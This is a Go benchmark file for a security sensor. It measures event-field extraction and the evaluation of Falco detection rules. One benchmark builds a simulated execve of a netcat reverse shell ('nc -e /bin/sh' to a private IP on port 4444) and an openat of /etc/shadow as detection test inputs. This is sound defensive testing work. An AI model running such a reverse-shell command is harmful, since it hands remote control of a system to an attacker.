package sysevent

import (
	"testing"

	"github.com/vigilsec/vigil/internal/event"
)

// BenchmarkExtract extracts every field case once per iteration from
// events as the sensor fills them (the scratch buffer reset per event, as
// SetType does).
func BenchmarkExtract(b *testing.B) {
	w := newWorld()
	evs := map[string]*Event{}
	for name, build := range builders {
		evs[name] = build(b, w)
	}
	w.self.FDs = evs["open"].Thread.Proc.FDs
	type job struct {
		c *Compiled
		e *Event
	}
	var jobs []job
	for _, tc := range fieldCases {
		jobs = append(jobs, job{compile(b, tc.field), evs[tc.ev]})
	}
	dst := make([]event.Value, 0, 16)
	b.ReportAllocs()
	for b.Loop() {
		for _, j := range jobs {
			j.e.scratch = j.e.scratch[:0]
			dst = j.c.Extract(j.e, dst[:0])
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(jobs)), "ns/field")
}

// BenchmarkFalcoRulesOpen evaluates Falco's upstream rules on an openat of
// /etc/shadow and an execve, the two hottest event types.
func BenchmarkFalcoRulesOpen(b *testing.B) {
	rs := loadFalcoRules(b)
	ev := rs.NewEvaluator()
	w := newWorld()
	open := w.openEvent(b)
	exec := w.exec(b, "nc", "/usr/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444")
	b.ReportAllocs()
	for b.Loop() {
		open.scratch = open.scratch[:0]
		exec.scratch = exec.scratch[:0]
		if len(ev.Match(open)) == 0 || len(ev.Match(exec)) == 0 {
			b.Fatal("no match")
		}
	}
}
